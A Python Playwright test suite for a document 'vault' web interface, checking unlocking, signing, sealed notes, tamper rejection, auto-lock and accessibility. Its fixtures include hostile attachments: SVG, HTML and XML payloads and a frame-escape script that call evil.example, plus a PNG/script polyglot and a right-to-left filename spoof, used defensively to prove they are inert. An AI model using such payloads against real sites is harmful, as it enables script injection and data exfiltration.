"""The vault in a real browser, at the real interface: open, confirm, sign, letter, note; lies; hostile attachments."""

from __future__ import annotations

import base64
import contextlib
import datetime
import json
import os
import re
import secrets
import sqlite3
import subprocess
import sys
import urllib.request
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from dueprocess.adapters import identity
from dueprocess.domain.sealed import note, session, statement

if TYPE_CHECKING:
    from collections.abc import Iterator

    from browser_desk import Practice

axe_playwright = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe is not installed")

pytestmark = [pytest.mark.browser, pytest.mark.slow]

DEMAND = Path(__file__).resolve().parents[2] / "src/dueprocess/cli/story/demands/02-no-provision.eml"
ANOTHER = DEMAND.with_name("01-subscriber-talbach.eml")
PDF = Path(__file__).resolve().parents[1] / "golden/demands/us-pdf-subpoena.pdf"
HOSTILE = {
    "annex\u202egpj.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('https://evil.example/?svg')\">"
    b"<image href='https://evil.example/pixel.png'/></svg>",
    "order.html": b"<html><script>fetch('https://evil.example/?html')</script><img src='https://evil.example/x'>"
    b"<meta http-equiv=refresh content='0;url=https://evil.example/'></html>",
    "order.xml": b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='https://evil.example/x.xsl'?><order/>",
}
POLYGLOT = (
    base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
    + b"<script>alert(1)</script>"
)
REACH = """async () => {
  const tried = {origin: window.origin};
  for (const [name, act] of Object.entries({
    storage: () => localStorage.length,
    parent: () => parent.document.title,
    fetched: () => fetch("config.json"),
    other: () => fetch("https://evil.example/"),
    markup: () => { document.body.innerHTML = "<img src=x onerror='parent.ran = 1'>"; },
  })) { try { await act(); tried[name] = "reached"; } catch { tried[name] = "refused"; } }
  return tried;
}"""


class Vault:
    """A window of the vault, and every address that it asked for."""

    def __init__(self, practice: Practice, context: Any) -> None:
        self.practice, self.context = practice, context
        self.tab = context.new_page()
        self.asked: list[str] = []
        self.faults: list[str] = []
        self.tab.on("request", lambda request: self.asked.append(request.url))
        self.tab.on("pageerror", lambda fault: self.faults.append(str(fault)))

    def go(self, path: str, wait: str) -> None:
        self.tab.goto(self.practice.at("vault", f"/#{path}"))
        self.tab.wait_for_selector(wait, timeout=20_000)

    def unlock(self, name: str) -> None:
        self.go("/", "#identity")
        self.tab.set_input_files("#identity", self.practice.keys / f"{name}.identity")
        self.tab.press("#passphrase", "Enter")
        self.tab.wait_for_selector(".compare")
        self.tab.click("text=It is the same")
        self.tab.wait_for_selector(".state.open")
        # What a page navigates to by its fragment alone keeps the key; only then are later pages open.
        self.tab.wait_for_selector(".cases")

    def frame(self) -> Any:
        return self.tab.wait_for_selector("iframe").content_frame()

    def tick(self, path: str) -> None:
        self.tab.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
        # By keyboard: right after scrolling, a click beside a frame of another process can miss.
        self.tab.locator(".entry", has=self.tab.locator(f"code:text-is('{path}')")).locator(".tick input").press(
            "Space"
        )


@pytest.fixture(scope="module")
def context(chromium: Any) -> Iterator[Any]:
    made = chromium.new_context(viewport={"width": 1280, "height": 900})
    yield made
    made.close()


@pytest.fixture(scope="module")
def vault(practice: Practice, context: Any) -> Vault:
    made = Vault(practice, context)
    made.unlock("birch")
    return made


@pytest.fixture(scope="module")
def taken(practice: Practice, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Cases by file, taken in while the desk is served: a demand of the story, and hostile ones."""
    folder = tmp_path_factory.mktemp("arrived")
    found = {}
    whole = {one.name: one.read_bytes() for one in (DEMAND, ANOTHER, PDF)}
    for name, data in {**whole, **HOSTILE, "scan.png": POLYGLOT}.items():
        (folder / name).write_bytes(data)
    environ = {**os.environ, "DUEPROCESS_HOME": str(practice.home), "HOME": str(practice.home.parent)}
    command = Path(sys.executable).with_name("dueprocess")
    files = sorted(folder.iterdir())
    ran = subprocess.run(
        [command, "intake", *map(str, files), "--json"], env=environ, capture_output=True, text=True, check=True
    )
    for file, line in zip(files, ran.stdout.splitlines(), strict=True):
        found[file.name] = str(json.loads(line)["case"])
    return found


@pytest.fixture(scope="module")
def case(taken: dict[str, str]) -> str:
    """A demand of the story, new: everything in it is claimed and nothing confirmed."""
    return taken[DEMAND.name]


def test_a_stranger_gets_no_session_and_a_wrong_file_says_what_to_do(practice: Practice, chromium: Any) -> None:
    context = chromium.new_context()
    window = Vault(practice, context)
    window.go("/", "#identity")
    window.tab.set_input_files("#identity", {"name": "x", "mimeType": "text/plain", "buffer": b"nothing"})
    window.tab.press("#passphrase", "Enter")
    window.tab.wait_for_selector(".problem")
    assert "age.header" in window.tab.inner_text(".problem")
    window.tab.set_input_files("#identity", practice.keys / "offline-recovery.identity")
    window.tab.press("#passphrase", "Enter")
    window.tab.click("text=It is the same")
    window.tab.wait_for_selector(".problem:has-text('opens no session')")
    assert window.tab.evaluate("localStorage.length") == 0
    context.close()


def test_a_new_identity_is_made_here_and_opens_at_the_desk(practice: Practice, chromium: Any, tmp_path: Path) -> None:
    context = chromium.new_context(accept_downloads=True)
    window = Vault(practice, context)
    window.go("/", "#identity")
    window.tab.click("text=Make a new identity")
    window.tab.fill("#new-name", "dogrose")
    window.tab.fill("#new-pass", "four random words")
    window.tab.fill("#new-pass-again", "four random words")
    window.tab.press("#new-pass-again", "Enter")
    card = window.tab.wait_for_selector("#card", timeout=20_000).input_value()
    with window.tab.expect_download() as loaded:
        window.tab.click("text=Save dogrose.identity")
    file = tmp_path / "dogrose.identity"
    loaded.value.save_as(file)
    file.chmod(0o600)
    assert identity.load(file, "four random words").card().text() == card
    assert not [url for url in window.asked if practice.at("api", "") in url]
    context.close()


def test_open_confirm_and_sign(vault: Vault, case: str) -> None:
    vault.go(f"/case/{case}", ".face")
    frame = vault.frame()
    frame.wait_for_selector(".line")
    assert "Moorau" in frame.inner_text("body")
    where = vault.tab.locator("button:text-is('Show where')").first
    where.press("Enter")
    frame.wait_for_selector("mark")
    vault.tick("country")
    vault.tab.locator(".sticky button.act").press("Enter")
    vault.tab.wait_for_selector("#sign-title")
    said = vault.tab.inner_text(".signing")
    assert "Confirm facts that you read in the original" in said
    assert "Country of the authority" in said
    text = vault.tab.locator(".exact pre").text_content()
    assert json.loads(text.split("\n")[1])["says"] == {"fields": {"country": "DE"}}
    vault.tab.locator(".buttons .act").press("Enter")
    vault.tab.wait_for_selector("text=Signed and done")
    assert vault.faults == []


@pytest.mark.parametrize(
    ("lie", "rule"),
    [
        (('"country":"DE"', '"country":"PK"'), "vault.altered"),
        (('"country":"DE"', '"country":"DE","emergency":true'), "vault.altered"),
        (('"by":"birch"', '"by":"aster"'), "statement.wrong-signer"),
        (('"roster":', '"roster":1'), "statement.wrong-roster"),
        (("face.confirm", "case.close"), "vault.altered"),
    ],
)
def test_a_desk_that_alters_the_text_gets_no_signature(
    vault: Vault, case: str, lie: tuple[str, str], rule: str
) -> None:
    def answer(route: Any) -> None:
        got = route.fetch()
        body = got.json()
        assert lie[0] in body["statement"]
        route.fulfill(response=got, json={**body, "statement": body["statement"].replace(*lie)})

    vault.tab.route("**/draft", answer)
    vault.asked.clear()
    vault.go("/", ".cases")
    vault.go(f"/case/{case}", ".face")
    vault.tick("country")
    vault.tab.locator(".sticky button.act").press("Enter")
    vault.tab.wait_for_selector(".problem")
    assert rule in vault.tab.inner_text(".problem")
    assert not [url for url in vault.asked if url.endswith("/v1/acts")]
    vault.tab.unroute("**/draft")


def corrected(practice: Practice) -> str:
    """The story's German case that was returned for correction: its authority is verified, a letter is due."""
    with contextlib.closing(sqlite3.connect(f"file:{practice.home}/desk.sqlite3?mode=ro", uri=True)) as store:
        asked = (
            "SELECT c.id FROM data_case c JOIN data_item i ON i.case_id = c.id WHERE c.country = ? AND i.outcome = ?"
        )
        return str(store.execute(asked, ("DE", "correct")).fetchone()[0])


class Client:
    """Somebody's own client of the interface, beside the vault."""

    def __init__(self, practice: Practice, name: str) -> None:
        self.at, self.who = practice.at("api", ""), identity.load(practice.keys / f"{name}.identity", None)
        desk = self.send("GET", "/v1/hello")["desk"]
        moment = datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
        opening = session.Opening(moment, name, desk, secrets.token_hex(16), self.at)
        note = opening.sign(*self.who.signer()).decode()
        self.token = self.send("POST", "/v1/session", {"note": note})["token"]

    def send(self, method: str, path: str, body: object = None) -> Any:
        headers = {"Content-Type": "application/json", "Authorization": f"Bearer {getattr(self, 'token', '')}"}
        data = None if body is None else json.dumps(body).encode()
        request = urllib.request.Request(self.at + path, data, headers, method=method)  # noqa: S310 - this machine
        with urllib.request.urlopen(request, timeout=20) as answer:  # noqa: S310 - as above
            return json.load(answer)

    def prepare(self, case: str, act: str, says: dict[str, Any]) -> dict[str, Any]:
        made: dict[str, Any] = self.send("POST", f"/v1/cases/{case}/draft", {"act": act, "says": says})
        return made

    def do(self, case: str, act: str, says: dict[str, Any]) -> str:
        """Hash of the statement that was signed and done."""
        draft = self.prepare(case, act, says)
        signed = note.signed(draft["statement"], [self.who.signer()]).encode()
        self.send("POST", "/v1/acts", {"note": signed.decode(), "draft": draft["id"], "attached": []})
        return statement.hash_of(signed)


def test_the_second_person_sees_what_the_first_one_signed(
    practice: Practice, vault: Vault, taken: dict[str, str]
) -> None:
    case = taken[ANOTHER.name]  # the other one's facts birch has confirmed: who verified does not approve
    aster, birch = Client(practice, "aster"), Client(practice, "birch")
    proposal = {"ground": "counsel", "item": 1, "lines": [], "outcome": "refuse"}
    hash_ = aster.do(case, "decision.propose", proposal)
    draft = birch.prepare(case, "decision.approve", {"differs": "", "item": 1, "proposal": hash_})

    def withheld(route: Any) -> None:
        got = route.fetch()
        route.fulfill(response=got, json={**got.json(), "notes": []})

    vault.tab.route("**/v1/drafts/**", withheld)
    vault.go(f"/sign/{draft['id']}", ".problem")
    assert "vault.proposal-missing" in vault.tab.inner_text(".problem")
    vault.tab.unroute("**/v1/drafts/**")
    vault.go("/", ".cases")
    vault.go(f"/sign/{draft['id']}", ".proposal")
    said = vault.tab.inner_text(".proposal")
    assert "What aster proposed and signed" in said
    assert "refuse: refused outside such grounds" in said
    assert "counsel" in said
    vault.tab.locator(".buttons .act").press("Enter")
    vault.tab.wait_for_selector("text=Signed and done")
    decided = next(one for one in birch.send("GET", f"/v1/cases/{case}")["items"] if one["item"] == 1)
    assert decided["outcome"] == "refuse"


def test_a_letter_is_merged_sealed_and_signed_here(practice: Practice, vault: Vault) -> None:
    case = corrected(practice)
    vault.go(f"/letter/{case}", ".sheet")
    reference = vault.tab.input_value("#reference")
    assert reference in vault.tab.inner_text(".sheet >> nth=0")
    vault.tab.fill("#reference", "3 Js 99/26")
    assert "3 Js 99/26" in vault.tab.inner_text(".sheet >> nth=0")
    sent: list[str] = []
    vault.tab.on("request", lambda request: sent.append(request.post_data or ""))
    vault.tab.locator(".card .act").press("Enter")
    vault.tab.wait_for_selector("#sign-title")
    assert "sealed to the sending worker" in vault.tab.inner_text(".signing")
    vault.tab.locator(".buttons .act").press("Enter")
    vault.tab.wait_for_selector("text=Signed and done")
    assert not [body for body in sent if "3 Js" in body]
    acts = [json.loads(body) for body in sent if "attached" in body]
    assert len(acts) == 1
    assert acts[0]["attached"][0]["reader"] == "worker"


def test_a_note_is_sealed_before_it_leaves(vault: Vault, case: str) -> None:
    sent: list[str] = []
    vault.tab.on("request", lambda request: sent.append(request.post_data or ""))
    vault.go(f"/note/{case}", "textarea")
    vault.tab.fill("#note", "Frau Quendel rief an; sie nennt das Konto linde@fennelmail.example.")
    vault.tab.locator(".card .act").press("Enter")
    vault.tab.wait_for_selector(".noted")
    vault.tab.locator(".buttons .act").press("Enter")
    vault.tab.wait_for_selector("text=Signed and done")
    assert not [body for body in sent if "Quendel" in body or "linde" in body]
    vault.go(f"/case/{case}", ".face")
    vault.tab.click("button:text-is('Note')")
    frame = vault.frame()
    frame.wait_for_selector("text=Frau Quendel")


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_attachments_are_text_and_reach_nothing(vault: Vault, taken: dict[str, str], name: str) -> None:
    vault.asked.clear()
    vault.go(f"/case/{taken[name]}", ".face")
    frame = vault.frame()
    frame.wait_for_selector(".line")
    assert "Source text of" in frame.inner_text("body")
    assert "evil.example" in frame.inner_text("body")
    assert "\u202e" not in vault.tab.inner_text(".file-name")
    reached = frame.evaluate(REACH)
    assert reached == {"origin": "null"} | dict.fromkeys(("storage", "parent", "fetched", "other", "markup"), "refused")
    ours = (vault.practice.at("vault", ""), vault.practice.at("api", ""))
    assert not [url for url in vault.asked if not url.startswith((*ours, "data:"))]


def test_a_picture_is_drawn_anew(vault: Vault, taken: dict[str, str]) -> None:
    vault.go(f"/case/{taken['scan.png']}", ".face")
    frame = vault.frame()
    frame.wait_for_selector("canvas")


def test_a_pdf_is_not_drawn_but_its_text_stands_beside_it(vault: Vault, taken: dict[str, str]) -> None:
    vault.go(f"/case/{taken[PDF.name]}", ".face")
    frame = vault.frame()
    frame.wait_for_selector(".line")
    assert "subpoena" in frame.inner_text("body").lower()
    vault.tab.locator("button:text-is('Show where')").first.press("Enter")
    frame.wait_for_selector("mark")
    vault.tab.click("button:text-is('Original')")
    frame.wait_for_selector("text=It is not shown here")


def test_the_desks_page_finds_the_same_window_again(practice: Practice, vault: Vault) -> None:
    desk = vault.context.new_page()
    desk.goto(practice.at("staff", "/login/"))
    address = practice.at("vault", f"/#/case/{practice.cases[2]}")
    desk.evaluate(
        "a => { const l = document.createElement('a'); l.href = a; l.target = 'dueprocess-vault'; l.id = 'way';"
        " l.textContent = 'way'; document.body.append(l); }",
        address,
    )
    with vault.context.expect_page() as opened:
        desk.click("#way")
    window = opened.value
    window.wait_for_selector("#identity")
    count = len(vault.context.pages)
    window.set_input_files("#identity", practice.keys / "birch.identity")
    window.press("#passphrase", "Enter")
    window.wait_for_selector(".face", timeout=20_000)  # where the link led, once it is unlocked
    desk.evaluate("a => { document.getElementById('way').href = a; }", address.replace("case", "note"))
    desk.click("#way")
    window.wait_for_selector("#note")
    assert len(vault.context.pages) == count
    assert "Unlocked as birch" in window.inner_text(".state")
    window.close()
    desk.close()


def test_nothing_is_stored_but_the_pin_and_locking_forgets(vault: Vault) -> None:
    kept = vault.tab.evaluate("JSON.stringify(localStorage)")
    assert re.fullmatch(r'\{"dueprocess\.pin\.[0-9a-f]{64}":"\{\\"number\\":1,\\"hash\\":\\"[0-9a-f]{64}\\"\}"\}', kept)
    assert vault.tab.evaluate("sessionStorage.length + document.cookie.length") == 0
    assert vault.tab.evaluate("indexedDB.databases().then(all => all.length)") == 0
    assert vault.faults == []
    vault.tab.click(".state button")
    vault.tab.wait_for_selector("#identity")
    assert "Locked" in vault.tab.inner_text(".state")
    assert vault.tab.query_selector(".face") is None


def test_it_locks_itself_when_nobody_touches_it(practice: Practice, chromium: Any) -> None:
    context = chromium.new_context()
    window = Vault(practice, context)
    window.tab.clock.install()
    window.unlock("birch")
    window.tab.clock.fast_forward("29:30")
    assert window.tab.query_selector(".state.open")
    window.tab.clock.fast_forward("01:00")
    window.tab.wait_for_selector("text=Nobody touched it for 30 minutes.")
    assert window.tab.query_selector(".cases") is None
    context.close()


@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 360)])
def test_axe_finds_nothing_and_nothing_runs_out_of_the_page(
    practice: Practice, chromium: Any, case: str, scheme: str, width: int
) -> None:
    context = chromium.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme, bypass_csp=True)
    window, axe, found = Vault(practice, context), axe_playwright.Axe(), []

    def look(name: str) -> None:
        result = axe.run(window.tab, options={"resultTypes": ["violations"]})
        found.extend(f"{name}: {one['id']} {one['nodes'][0]['target']}" for one in result.response["violations"])
        if window.tab.evaluate("document.documentElement.scrollWidth > innerWidth"):
            found.append(f"{name}: wider than the window")

    window.go("/", "#identity")
    window.tab.click("text=Make a new identity")
    look("locked")
    window.unlock("birch")
    look("home")
    for page, wait in (("case", ".face"), ("letter", ".sheet"), ("note", "#note")):
        window.go(f"/{page}/{case}", wait)
        look(page)
    window.go(f"/case/{case}", ".face")
    window.tick("country")
    window.tab.locator(".sticky button.act").press("Enter")
    window.tab.wait_for_selector("#sign-title")
    look("sign")
    context.close()
    assert found == []
